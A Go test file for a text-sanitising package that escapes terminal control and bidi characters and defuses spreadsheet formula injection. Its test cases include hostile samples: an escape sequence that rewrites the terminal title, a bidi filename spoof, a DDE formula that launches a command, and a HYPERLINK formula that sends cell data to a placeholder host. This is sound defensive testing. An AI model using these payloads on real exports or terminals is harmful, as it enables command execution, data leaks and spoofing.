package safetext

import (
	"strings"
	"testing"
	"unicode/utf8"
)

func TestTerminal(t *testing.T) {
	for _, tc := range []struct{ name, in, want string }{
		{"empty", "", ""},
		{"plain", "0821234567", "0821234567"},
		{"name", `"Smith, John" <2001>`, `"Smith, John" <2001>`},
		{"unicode kept", "Zoë Mkhize — 北京 ☎", "Zoë Mkhize — 北京 ☎"},
		{"title and colour", "\x1b]0;PWNED\x07\x1b[31m", `\x1b]0;PWNED\x07\x1b[31m`},
		{"tab lf cr", "a\tb\nc\rd", `a\tb\nc\rd`},
		{"nul and del", "a\x00b\x7f", `a\x00b\x7f`},
		{"c1 csi", "a\u009b31mb\u0085", `a\u009b31mb\u0085`},
		{"bidi override", "abc\u202egnp.exe", `abc\u202egnp.exe`},
		{"bidi isolates and marks", "\u2066x\u2069\u200e\u200f\u061c", `\u2066x\u2069\u200e\u200f\u061c`},
		{"line separators", "a\u2028b\u2029", `a\u2028b\u2029`},
		{"invalid utf-8", "a\xffb\xc3", "a\uFFFDb\uFFFD"},
		{"replacement char kept", "a\uFFFDb", "a\uFFFDb"},
		{"backslash kept", `C:\x1b`, `C:\x1b`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := Terminal(tc.in); got != tc.want {
				t.Errorf("Terminal(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

func TestCSVCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"0821234567", "0821234567"},
		{"+27 82 123 4567", "+27 82 123 4567"},
		{"+1 (555) 010-9999", "+1 (555) 010-9999"},
		{"-5", "-5"},
		{"-2.5", "-2.5"},
		{"-", "-"},
		{"+27821234567", "+27821234567"},
		{`"Smith, John" <2001>`, `"Smith, John" <2001>`},
		{"1+1", "1+1"},
		{"a=b", "a=b"},
		{"-2+3", "'-2+3"},
		{"+cmd", "'+cmd"},
		{"=1+1", "'=1+1"},
		{"@SUM()", "'@SUM()"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{`=HYPERLINK("http://x.invalid/?"&A1,"click")`, `'=HYPERLINK("http://x.invalid/?"&A1,"click")`},
		{`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
		{`-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`},
		{"+27 82 SUM(1)", "'+27 82 SUM(1)"},
		{"  =1+1", "'  =1+1"},
		{"\n=1+1", "'\n=1+1"},
		{"'=1+1", "'=1+1"},
		{"=\x00", "'="},
		{"\x00=1+1", "'=1+1"},
		{"08\x0021", "0821"},
		{"-\x00cmd", "'-cmd"},
	} {
		if got := CSVCell(tc.in); got != tc.want {
			t.Errorf("CSVCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestCSVRawCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"=1+1", "=1+1"},
		{"\x00=1\x00", "=1"},
		{"", ""},
	} {
		if got := CSVRawCell(tc.in); got != tc.want {
			t.Errorf("CSVRawCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// Clean text is the common case on hot paths: it must cost no allocation.
func TestCleanTextDoesNotAllocate(t *testing.T) {
	for _, s := range []string{"0821234567", "Zoë Mkhize — 北京", "+27 82 123 4567", `"Vodacom" <0219200000>`} {
		if n := testing.AllocsPerRun(100, func() { _ = Terminal(s) }); n != 0 {
			t.Errorf("Terminal(%q): %v allocations", s, n)
		}
		if n := testing.AllocsPerRun(100, func() { _ = CSVCell(s) }); n != 0 {
			t.Errorf("CSVCell(%q): %v allocations", s, n)
		}
	}
}

// terminalUnsafe reports a rune Terminal must never let through.
func terminalUnsafe(r rune) bool {
	return r < 0x20 || r == 0x7f || hidden(r)
}

func FuzzTerminal(f *testing.F) {
	for _, s := range []string{"", "plain", "\x1b]0;PWNED\x07\x1b[31m", "a\u202eb", "\xff\xfe", "\u009b", "a\tb\r\n",
		"\\x1b", "é\xc3"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := Terminal(s)
		if !utf8.ValidString(got) {
			t.Fatalf("Terminal(%q) = %q: not valid UTF-8", s, got)
		}
		for _, r := range got {
			if terminalUnsafe(r) {
				t.Fatalf("Terminal(%q) = %q: holds %U", s, got, r)
			}
		}
		if again := Terminal(got); again != got {
			t.Fatalf("Terminal is not stable: %q then %q", got, again)
		}
		if firstUnsafe(s) < 0 && got != s {
			t.Fatalf("clean %q was changed to %q", s, got)
		}
	})
}

func FuzzCSVCell(f *testing.F) {
	for _, s := range []string{"", "=1+1", "+27 82 123 4567", "-2+3", "@SUM()", "\t=1", "'=x", " -", "\x00="} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := CSVCell(s)
		if strings.IndexByte(got, 0) >= 0 {
			t.Fatalf("CSVCell(%q) = %q holds a NUL", s, got)
		}
		if isFormula(got) {
			t.Fatalf("CSVCell(%q) = %q still reads as a formula", s, got)
		}
		if again := CSVCell(got); again != got {
			t.Fatalf("CSVCell is not stable: %q then %q", got, again)
		}
		// Nothing is lost: the cell is the input without NULs, perhaps behind the prefix.
		plain := strings.ReplaceAll(s, "\x00", "")
		if got != plain && got != CSVPrefix+plain {
			t.Fatalf("CSVCell(%q) = %q changed the text", s, got)
		}
	})
}

func BenchmarkTerminalClean(b *testing.B) {
	s := `"Vodacom" <0219200000>`
	b.ReportAllocs()
	for b.Loop() {
		_ = Terminal(s)
	}
}

func BenchmarkTerminalHostile(b *testing.B) {
	s := "\x1b]0;PWNED\x07\x1b[31m0821234567"
	b.ReportAllocs()
	for b.Loop() {
		_ = Terminal(s)
	}
}

func BenchmarkCSVCellClean(b *testing.B) {
	s := "+27 82 123 4567"
	b.ReportAllocs()
	for b.Loop() {
		_ = CSVCell(s)
	}
}
